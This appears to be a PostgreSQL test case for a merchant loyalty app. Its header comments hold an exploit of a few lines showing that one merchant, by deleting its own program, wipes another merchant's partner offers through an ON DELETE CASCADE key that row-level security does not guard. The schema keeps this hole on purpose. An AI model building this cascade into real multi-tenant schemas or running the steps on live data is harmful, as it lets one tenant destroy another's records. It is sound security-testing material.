-- Offers of one merchant hang on a program of another with a cascade; by deleting its program a merchant
-- deletes the other's offers.
-- about: partner_offers, programs, partner_offers_program_fkey
-- as: hf_stampcard_app
-- exploit: SET request.jwt.claims = '{"sub":"u-bob"}';
-- exploit: INSERT INTO loyal.partner_offers VALUES (2, 'N-gold', '10 off');
-- exploit: SET request.jwt.claims = '{"sub":"u-ann","role":"authenticated"}';
-- exploit: DELETE FROM loyal.programs WHERE code = 'N-gold';
-- exploit: SET request.jwt.claims = '{"sub":"u-bob"}';
-- exploit: SELECT 'offers of road: ' || count(*) AS r FROM loyal.partner_offers;
-- shows: offers of road: 0
CREATE TABLE loyal.programs (
  merchant_id bigint NOT NULL,
  code text PRIMARY KEY
);
CREATE TABLE loyal.partner_offers (
  merchant_id bigint NOT NULL REFERENCES loyal.merchants,
  program_code text NOT NULL CONSTRAINT partner_offers_program_fkey
    REFERENCES loyal.programs ON DELETE CASCADE,
  text text NOT NULL
);
ALTER TABLE loyal.programs ENABLE ROW LEVEL SECURITY;
ALTER TABLE loyal.programs FORCE ROW LEVEL SECURITY;
ALTER TABLE loyal.partner_offers ENABLE ROW LEVEL SECURITY;
ALTER TABLE loyal.partner_offers FORCE ROW LEVEL SECURITY;
CREATE POLICY staff ON loyal.programs USING (loyal.works_at(merchant_id));
CREATE POLICY staff ON loyal.partner_offers USING (loyal.works_at(merchant_id));
GRANT SELECT, INSERT, UPDATE, DELETE ON loyal.programs, loyal.partner_offers TO hf_stampcard_app;
INSERT INTO loyal.programs VALUES (1, 'N-gold');
